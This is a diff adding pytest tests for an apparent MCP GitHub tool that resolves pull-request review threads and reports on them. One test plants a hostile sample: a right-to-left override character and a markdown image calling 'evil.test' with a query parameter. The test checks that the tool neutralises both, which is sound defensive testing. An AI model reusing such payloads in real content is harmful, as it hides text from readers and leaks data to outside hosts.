@@ -3,7 +3,19 @@
 import pytest
 from mcp.client import Client
 
-from integration.github.pulling import PULL, Second, call, client_of, code_of, head, lose, refusal, writes
+from integration.github.pulling import (
+    PULL,
+    Second,
+    Third,
+    call,
+    client_of,
+    code_of,
+    head,
+    lose,
+    refusal,
+    writes,
+)
+from integration.github.working import text_of
 from standins.github.state import FakeGitHub
 
 pytestmark = pytest.mark.anyio
@@ -164,3 +176,59 @@ async def test_comments_on_several_lines_and_on_the_old_file_are_sent_as_such(fa
         {"path": "src/spin.py", "line": 2, "side": "LEFT", "body": "It was better."},
     ]
     assert said.startswith("Nothing was sent: src/spin.py:2-1 ends before it starts.")
+
+
+async def test_a_step_that_is_refused_says_what_was_said_and_resolved_before(fake: FakeGitHub) -> None:
+    async with client_of(fake) as client:
+        first, second = await threads(client)
+        fake.repositories["acme/widgets"].pull_of(4).threads[1].resolved = False
+        fake.faults += [Third("/graphql", "POST", "403", None)]
+        said = await refusal(client, "resolve_threads", {**PULL, "thread_ids": [first, second]})
+        assert list((await threads(client)).values()) == ["resolved", "open"]
+    assert said.endswith(f"Done: {first} resolved. Not done, or not known: {second} resolved.")
+
+
+async def test_a_half_done_try_whose_outcome_stayed_unknown_says_what_is_left(fake: FakeGitHub) -> None:
+    async with client_of(fake) as client:
+        (waiting,) = [name for name, state in (await threads(client)).items() if state == "open"]
+        wanted = {**PULL, "thread_ids": [waiting], "reply": "Done.", "idempotency_key": "k"}
+        # The reply's answer gets lost, and then the look for it.
+        fake.faults += [Second("/graphql", "POST", "done-cut", None), Second("/graphql", "POST", "403", None)]
+        unknown = await client.call_tool("resolve_threads", wanted)
+        again = await client.call_tool("resolve_threads", wanted)
+        await call(client, "resolve_threads", {**PULL, "thread_ids": [waiting]})
+        done, _ = await call(client, "resolve_threads", wanted)
+    assert code_of(unknown) == code_of(again) == "outcome_unknown"
+    assert text_of(again) == (
+        f"An earlier try was cut off. Done: reply in {waiting}. Not done: {waiting} resolved. Do what is "
+        "left with a new `idempotency_key`."
+    )
+    assert done.startswith("acme/widgets#4: the threads are resolved.")
+
+
+async def test_threads_that_are_as_wanted_are_left_alone(fake: FakeGitHub) -> None:
+    async with client_of(fake) as client:
+        (over,) = [name for name, state in (await threads(client)).items() if state == "resolved"]
+        said, _ = await call(client, "resolve_threads", {**PULL, "thread_ids": [over]})
+    assert said == "acme/widgets#4: they are resolved already.\nnumber: 4"
+    assert writes(fake) == []
+
+
+async def test_what_is_said_in_threads_and_reviews_neither_hides_nor_loads(fake: FakeGitHub) -> None:
+    repo = fake.repositories["acme/widgets"]
+    evil = "a\u202eb ![x](https://evil.test/?q=S)"
+    repo.thread(4, "src/spin.py", 1, [evil], authors=["mona"])
+    repo.review(4, "mona", "COMMENTED", evil)
+    async with client_of(fake) as client:
+        said, _ = await call(client, "get_pull_request", {**PULL, "include": ["reviews", "threads"]})
+    assert said.count("ab [image: x, at https://evil.test/?q=S]") == 2
+    assert "\u202e" not in said
+
+
+async def test_an_outdated_thread_says_so_and_where_it_was(fake: FakeGitHub) -> None:
+    thread = fake.repositories["acme/widgets"].pull_of(4).threads[0]
+    thread.outdated = True
+    async with client_of(fake) as client:
+        _, told = await call(client, "get_pull_request", {**PULL, "include": ["threads"]})
+    assert told["parts"]["threads"].splitlines()[0] == f"{thread.id} open, outdated src/spin.py:2"
+    assert told["parts"]["threads"].splitlines()[1].startswith(f"  [{thread.comments[0].id}] octocat, ")
